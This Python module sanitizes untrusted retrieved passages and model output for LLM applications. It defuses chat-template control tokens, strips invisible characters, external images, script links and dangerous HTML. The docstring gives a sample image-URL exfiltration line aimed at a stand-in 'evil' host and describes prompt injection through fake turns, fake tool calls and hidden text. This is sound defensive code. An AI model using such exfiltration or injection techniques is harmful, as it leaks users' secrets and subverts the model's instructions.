"""Untrusted text in, harmless text out: retrieved passages and model output.

Two jobs:

* ``neutralize_passage``: document text that enters a prompt as data. Chat-template control
  tokens (``<|im_start|>``, ``<tool_call>``, ``<|eot_id|>``...) are defused so a document cannot
  open a new turn or fake a tool call, invisible characters that hide instructions are removed,
  and external markdown images are replaced by their alt text (an image URL is the classic
  exfiltration channel: ``![](https://evil/?q=<secret>)``).
* ``sanitize_markdown``: model output about to be rendered (UI, API, Slack, Discord). Removes
  external images and ``javascript:``/``vbscript:``/``data:`` links, keeping their visible
  text. Keep the UI's HTML sanitizer on as well; this is the markdown layer.
"""

from __future__ import annotations

import re
from typing import Iterable

# Markdown image: ![alt](url "title")  (url may be <wrapped>)
_URL = r"\(\s*(?:<([^>\n]*)>|([^)\s]*))(?:\s+[\"'][^\"'\n]*[\"'])?\s*\)"
_MD_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]" + _URL)
# Reference-style image ![alt][ref] and its definition line [ref]: url
_MD_REF_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\[([^\]\n]{0,100})\]")
_MD_REF_DEF = re.compile(r"^[ \t]{0,3}\[([^\]\n]{1,100})\]:[ \t]*<?(\S+?)>?(?:[ \t]+.*)?$", re.MULTILINE)
_MD_LINK = re.compile(r"(?<!!)\[([^\]\n]{0,500})\]" + _URL)
_AUTOLINK = re.compile(r"<((?:javascript|vbscript|data):[^>\s]*)>", re.IGNORECASE)
_HTML_IMG = re.compile(r"<img\b[^>]*>", re.IGNORECASE)
_HTML_DANGEROUS = re.compile(r"<(script|style|iframe|object|embed)\b[^>]*>.*?</\1\s*>|<(?:script|style|iframe|object|embed|link|meta|base)\b[^>]*/?>",
                             re.IGNORECASE | re.DOTALL)
_BAD_SCHEME = re.compile(r"^\s*(?:javascript|vbscript|data|file):", re.IGNORECASE)
# Control tokens of common chat templates, and anything shaped like one: <|name|>.
_CONTROL = re.compile(r"<\|[^|<>\n]{1,40}\|>|</?(?:tool_call|tool_response|tools|function_call|think)>|\[/?INST\]"
                      r"|<</?SYS>>|<(?:s|/s)>", re.IGNORECASE)
_INVISIBLE = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff\u00ad]")


def is_external_url(url: str) -> bool:
    """True for anything that would make a renderer fetch from elsewhere or run code."""
    url = url.strip()
    return bool(re.match(r"^(?:[a-z][a-z0-9+.\-]*:|//|\\\\)", url, re.IGNORECASE))


def _image_text(alt: str) -> str:
    alt = alt.strip()
    return f"[image: {alt}]" if alt else "[image]"


def strip_external_images(text: str) -> str:
    """Replace markdown/HTML images that point outside (any URL with a scheme or //) by alt text."""
    refs = {m.group(1).lower(): m.group(2) for m in _MD_REF_DEF.finditer(text)}

    def inline(m: re.Match) -> str:
        url = m.group(2) if m.group(2) is not None else m.group(3)
        return _image_text(m.group(1)) if not url or is_external_url(url) else m.group(0)

    def by_ref(m: re.Match) -> str:
        url = refs.get((m.group(2) or m.group(1)).lower(), "")
        return _image_text(m.group(1)) if not url or is_external_url(url) else m.group(0)

    text = _MD_IMAGE.sub(inline, text)
    text = _MD_REF_IMAGE.sub(by_ref, text)
    return _HTML_IMG.sub("[image]", text)


def sanitize_markdown(text: str) -> str:
    """Make model output safe to render: no external images, no script links, no active HTML.

    - ``![alt](https://...)``, reference-style images and ``<img>`` tags become ``[image: alt]``;
      images with a relative path (served by the app itself) stay.
    - ``[text](javascript:...)`` (also vbscript:, data:, file:) becomes ``text``; ordinary links stay.
    - ``<script>``, ``<style>``, ``<iframe>``, ``<link>``... are removed.
    """
    if not text:
        return text
    text = _HTML_DANGEROUS.sub("", text)
    text = strip_external_images(text)

    def link(m: re.Match) -> str:
        url = m.group(2) if m.group(2) is not None else m.group(3)
        return m.group(1) if _BAD_SCHEME.match(url) else m.group(0)

    text = _MD_LINK.sub(link, text)
    text = _AUTOLINK.sub("", text)
    # A reference definition pointing at a script URL would still turn [x][ref] into a live link.
    text = _MD_REF_DEF.sub(lambda m: "" if _BAD_SCHEME.match(m.group(2)) else m.group(0), text)
    return text


def defuse_control_tokens(text: str, extra_tokens: Iterable[str] = ()) -> str:
    """Break chat-template control tokens so the tokenizer reads them as plain characters.

    ``<|im_start|>`` becomes ``‹|im_start|›``: still readable, no longer a special token.
    ``extra_tokens`` are the tokenizer's own special tokens (any shape).
    """
    for token in sorted({t for t in extra_tokens if t and len(t) > 1}, key=len, reverse=True):
        if token in text:
            text = text.replace(token, token[0] + "\u2060" + token[1:]) if not token.startswith("<") else \
                text.replace(token, "‹" + token[1:-1] + "›" if token.endswith(">") else "‹" + token[1:])
    return _CONTROL.sub(lambda m: "‹" + m.group(0)[1:-1] + "›" if m.group(0).startswith("<") else
                        "(" + m.group(0)[1:-1] + ")", text)


def neutralize_passage(text: str, extra_tokens: Iterable[str] = ()) -> str:
    """Prepare untrusted document text for a prompt: no control tokens, hidden text or image URLs."""
    text = _INVISIBLE.sub("", text)
    text = _HTML_DANGEROUS.sub("", text)
    text = re.sub(r"<!--(.*?)-->", r"\1", text, flags=re.DOTALL)  # hidden comments are shown as text
    text = strip_external_images(text)
    return defuse_control_tokens(text, extra_tokens)
